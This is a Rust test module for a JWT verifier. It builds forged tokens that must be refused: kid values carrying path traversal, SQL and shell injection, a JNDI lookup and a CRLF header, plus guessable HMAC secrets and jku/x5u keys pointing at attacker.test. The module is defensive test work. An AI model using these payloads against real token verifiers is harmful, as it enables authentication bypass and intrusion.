//! Attacks on the choice of the key: names that are no names, keys of others, keys brought along.

use serde_json::{Value, json};

use super::super::mint::{self, Signer, b64};
use super::world::{MACHINE, PARTNER, STRICT, of};
use super::*;

pub(super) fn collect(world: &World, corpus: &mut Corpus) {
    kid(world, corpus);
    kid_of_another(world, corpus);
    hmac_secrets(world, corpus);
    keys_brought_along(world, corpus);
}

/// `kid` is a name to look up, never a path, a query or a part of either.
fn kid(world: &World, corpus: &mut Corpus) {
    let claims = mint::claims("someone");
    let attacker = world.attacker("RS256");
    let huge = "k".repeat(8 * 1024);
    // An empty name is none.
    let token = attacker.with_kid("").sign(&claims);
    corpus.refuse("kid", "\"\"", token, UNNAMED);
    for kid in [
        " ",
        "rs",
        "RSA",
        "rsa ",
        " rsa",
        "rsa\0",
        "rsa\n",
        "rsa,p256",
        "*",
        "%",
        "0",
        "null",
        "../../../../../../dev/null",
        "/dev/null",
        "file:///etc/passwd",
        "..\\..\\windows\\win.ini",
        "x' UNION SELECT 'key';--",
        "' OR 1=1 --",
        "|/usr/bin/id",
        "$(id)",
        "`id`",
        "{{7*7}}",
        "${jndi:ldap://attacker.test/a}",
        "https://attacker.test/jwks.json",
        "\u{202e}asr",
        "rsа",
        "__proto__",
        "constructor",
        "keys[0]",
        "hs",
        "strict-ec",
        "entra",
        "../partner/rsa",
        "\r\nx-auth-subject: admin",
        &huge,
    ] {
        let token = attacker.with_kid(kid).sign(&claims);
        let name: String = kid.chars().take(40).collect();
        // An empty name is none.
        let reasons = if kid.is_empty() { SIGNATURE } else { KEY };
        corpus.refuse("kid", format!("{name:?}"), token, reasons);
    }
    for kid in [Value::Null, json!(0), json!(-1), json!(false), json!(["rsa"]), json!({"a": "rsa"})]
    {
        let name = kid.to_string();
        // Taken for an absent kid, null leads to every key, and to no signature.
        let reasons: &[&str] = if kid.is_null() { UNNAMED } else { KID_TYPE };
        let token = attacker.sign_with(header_with(attacker, "kid", kid), &claims);
        corpus.refuse("kid-type", name, token, reasons);
    }
}

/// Two issuers may use one `kid`: keys are looked up by provider and `kid`, never by `kid` alone.
fn kid_of_another(world: &World, corpus: &mut Corpus) {
    let family = "kid-cross";
    let main = mint::claims("someone");
    corpus.refuse(family, "partner as main", world.partner.sign(&main), SIGNATURE);
    corpus.refuse(family, "main as partner", world.rsa.sign(&of(PARTNER)), SIGNATURE);
    for signer in [&world.rsa_noalg, &world.p256, &world.ed] {
        let name = format!("{} as partner", signer.kid());
        corpus.refuse(family, name, signer.sign(&of(PARTNER)), UNFIT);
    }
    corpus.refuse(family, "main as strict", world.rsa.sign(&of(STRICT)), TYPE_OR_ALGORITHM);
    corpus.refuse(family, "strict as main", world.strict.sign(&main), KEY);
    corpus.refuse(family, "entra as main", world.entra.sign(&main), KEY);
    corpus.refuse(family, "hmac as main", world.hs.sign(&main), ALGORITHM);
    corpus.refuse(family, "hmac as strict", world.hs.sign(&of(STRICT)), TYPE_OR_ALGORITHM);
    let no_kid = |signer: &Signer, claims: &Value| {
        signer.sign_with(json!({"alg": signer.algorithm()}), claims)
    };
    corpus.refuse(family, "partner without kid", no_kid(&world.partner, &main), UNNAMED);
    corpus.refuse(family, "rsa without kid", no_kid(&world.rsa, &of(PARTNER)), SIGNATURE);
    corpus.refuse(
        family,
        "attacker without kid",
        no_kid(world.attacker("EdDSA"), &main),
        SIGNATURE,
    );
}

/// Empty and guessable secrets (CVE-2026-45363 and its like).
fn hmac_secrets(world: &World, corpus: &mut Corpus) {
    for alg in ["HS256", "HS384", "HS512"] {
        for issuer in [mint::ISSUER, MACHINE] {
            for kid in [None, Some("hs"), Some(""), Some("/dev/null"), Some("rsa")] {
                let mut header = json!({"alg": alg, "typ": "JWT"});
                if let Some(kid) = kid {
                    header["kid"] = json!(kid);
                }
                let reasons = match (issuer == MACHINE && alg == "HS256", kid) {
                    (false, _) => ALGORITHM,
                    (true, None | Some("hs" | "")) => SIGNATURE,
                    (true, _) => KEY,
                };
                let token = Signer::hmac(alg, "", b"").sign_with(header, &of(issuer));
                corpus.refuse("kid-hs-empty", format!("{alg} {kid:?} {issuer}"), token, reasons);
            }
        }
    }
    let guesses: [&[u8]; 7] = [
        b"secret",
        b"hs",
        b"null",
        &[1; 32],
        b"your-256-bit-secret",
        b"[object Object]",
        MACHINE.as_bytes(),
    ];
    for guess in guesses {
        let token = Signer::hmac("HS256", "hs", guess).sign(&of(MACHINE));
        let name = String::from_utf8_lossy(guess).escape_debug().to_string();
        corpus.refuse("hs-guess", name, token, SIGNATURE);
    }
    let published = Signer::hmac("HS256", "hs", world.hs.jwk()["k"].as_str().unwrap().as_bytes());
    corpus.refuse("hs-guess", "text of k, undecoded", published.sign(&of(MACHINE)), SIGNATURE);
    for alg in ["HS384", "HS512"] {
        let token = world.hs.with_algorithm(alg).sign(&of(MACHINE));
        corpus.refuse("alg-wrong", format!("{alg} with the secret of HS256"), token, ALGORITHM);
    }
}

/// A key, or where to get one, in the header (CVE-2018-0114): never looked at, never fetched.
fn keys_brought_along(world: &World, corpus: &mut Corpus) {
    let claims = mint::claims("someone");
    let secret = Signer::hmac("HS256", "attacker", &[7; 32]);
    for attacker in world.attackers.iter().chain([&secret]) {
        let fit = world.main().into_iter().find(|key| key.algorithm() == attacker.algorithm());
        let mut kids = vec![("no kid", None), ("own kid", Some("attacker"))];
        kids.extend(fit.map(|key| ("real kid", Some(key.kid()))));
        let der = b64_standard(&attacker.public_der());
        let brought: [(&'static str, &str, Value); 6] = [
            ("inj-jwk", "jwk", attacker.jwk()),
            ("inj-jwk", "jwks", mint::jwks(&[attacker])),
            ("inj-jku", "jku", json!("https://attacker.test/jwks.json")),
            ("inj-x5u", "x5u", json!("https://attacker.test/chain.pem")),
            ("inj-x5c", "x5c", json!([der])),
            ("inj-x5t", "x5t#S256", json!(b64(&[1; 32]))),
        ];
        for (family, member, value) in brought {
            for (which, kid) in kids.iter().copied() {
                let mut header = json!({"alg": attacker.algorithm(), "typ": "JWT"});
                header[member] = value.clone();
                if let Some(kid) = kid {
                    header["kid"] = json!(kid);
                }
                let reasons = match (attacker.algorithm(), kid) {
                    ("HS256", _) => ALGORITHM,
                    (_, Some("attacker")) => KEY,
                    ("RS256", None) => UNNAMED,
                    _ => SIGNATURE,
                };
                let name = format!("{member} {} {which}", attacker.algorithm());
                corpus.refuse(family, name, attacker.sign_with(header, &claims), reasons);
            }
        }
    }
}

fn b64_standard(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}
